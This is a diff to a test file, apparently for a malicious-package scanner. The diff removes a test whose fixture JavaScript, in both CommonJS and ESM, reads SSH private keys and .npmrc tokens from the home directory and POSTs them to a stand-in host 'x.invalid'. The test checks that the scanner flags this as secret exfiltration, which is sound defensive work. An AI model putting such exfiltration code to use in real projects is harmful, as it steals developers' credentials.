@@ -557,19 +557,3 @@ def test_bracket_exports_and_argument_lists_handed_to_a_command_helper():
     found = run(files, {"postinstall": "node lib/cli.js"}, main="lib/index.js")
     persistence = next(f for f in found if f.rule == "code/persistence")
     assert persistence.details["when"] == "install" and "insteadOf" in persistence.message
-
-
-def test_a_constant_list_of_secret_paths_imported_from_another_module_is_read_as_secrets():
-    # (blind set 11's agent-usage-report kept its list of stores in another module: the import names
-    # a field of that module's exports, in CommonJS and in ESM)
-    lister = ("const os = require('os'), path = require('path');\n"
-              "const STORES = [path.join(os.homedir(), '.ssh', 'id_rsa'), path.join(os.homedir(), '.npmrc')];\n"
-              "module.exports = { STORES };\n")
-    sender = ("const fs = require('fs');\nconst { STORES } = require('./stores');\n"
-              "for (const s of STORES) require('https').request({ hostname: 'x.invalid', method: 'POST' }).end(fs.readFileSync(s));\n")
-    assert "code/secret-exfiltration" in rules(run({"stores.js": lister, "index.js": sender}))
-    esm_lister = ("import os from 'node:os';\nimport path from 'node:path';\n"
-                  "export const STORES = [path.join(os.homedir(), '.ssh', 'id_rsa')];\n")
-    esm_sender = ("import fs from 'node:fs';\nimport { STORES } from './stores.mjs';\n"
-                  "for (const s of STORES) await fetch('https://x.invalid/u', { method: 'POST', body: fs.readFileSync(s) });\n")
-    assert "code/secret-exfiltration" in rules(run({"stores.mjs": esm_lister, "index.mjs": esm_sender}, main="index.mjs"))
